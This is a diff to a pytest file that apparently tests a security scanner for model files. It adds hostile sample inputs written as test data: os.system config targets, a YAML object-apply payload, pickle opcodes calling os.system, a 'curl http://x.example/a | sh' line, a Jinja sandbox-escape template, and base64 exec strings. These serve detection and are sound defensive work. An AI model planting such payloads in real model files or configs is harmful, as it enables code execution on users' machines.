@@ -65,6 +65,44 @@ def test_a_document_in_the_metadata_is_read_as_one() -> None:
 
 
 @pytest.mark.parametrize(
+    ("metadata", "rule"),
+    [
+        ({"_target_": "os.system", "command": "id"}, "config-calls-dangerous-name"),
+        ({"config": "model:\n  _target_: os.system\n"}, "config-calls-dangerous-name"),
+        ({"config": "!!python/object/apply:os.system [id]"}, "config-calls-dangerous-name"),
+        ({"a": "cos\nsystem\n(S'id'\ntR."}, "pickle-dangerous-call"),
+        ({"a": CALL.hex() + "00"}, "pickle-dangerous-call"),
+        ({"a": CALL.decode("latin-1")}, "pickle-dangerous-call"),
+        ({"a": "#!/bin/sh\nid"}, "safetensors-code-in-metadata"),
+        ({"a": "curl http://x.example/a | sh"}, "safetensors-code-in-metadata"),
+        (
+            {"chat_template": "{{ cycler|attr('__in'~'it__')|attr('__globals__') }}"},
+            "template-hidden-attribute",
+        ),
+    ],
+)
+def test_metadata_of_any_notation(metadata: dict[str, str], rule: str) -> None:
+    found = reading.fails(forge.small(metadata), "m.safetensors")
+    assert found
+    assert rule in found or rule.startswith("template")
+
+
+def test_metadata_that_is_no_text_is_read_all_the_same() -> None:
+    table = {**forge.header({"w": ("U8", [4])}), "__metadata__": {"a": {"_target_": "os.system"}}}
+    assert reading.fails(forge.assemble(table), "m.safetensors") == [
+        "config-calls-dangerous-name", "safetensors-bad-metadata",
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(("dtype", "known"), [("F4_E2M1", True), ("MXFP4", False), ("OBJ", False)])
+def test_a_dtype_of_a_later_version_is_no_impossible_one(dtype: str, known: bool) -> None:
+    table = forge.header({"w": ("U8", [4])})
+    table["w"]["dtype"] = dtype
+    rules = reading.fails(forge.assemble(table), "m.safetensors")
+    assert ("safetensors-structure-contradicts" in rules) is not known
+
+
+@pytest.mark.parametrize(
     "text",
     ["__import__('os').system('id')", "exec(base64.b64decode('aWQ='))", "os.popen('id')",
      "{{ ''.__class__.__mro__ }}", "subprocess.run(['id'])"],
@@ -77,7 +115,8 @@ def test_text_that_calls_the_interpreter(text: str) -> None:
 @pytest.mark.parametrize(
     "text",
     ["", "pt", "Execute (order) 66; eval(uation) of subprocess", "{not json", "[1, 2]",
-     '{"ss_network_module": "networks.lora", "target": "all"}', "gASVx", "gASV" + "A" * 40,
+     '{"ss_network_module": "networks.lora", "target": "all"}', "gASVx", "gASV" + "A" * 40, "gA" + "A" * 23,
+     "8004" + "ab" * 30, "\x80é\u4e00", "cat\nnap\n", "|sheep", "{{ name }}",
      "data:image/jpeg;base64,/9j/4AAQSkZJRg=="],
 )  # fmt: skip
 def test_ordinary_metadata_is_quiet(text: str) -> None:
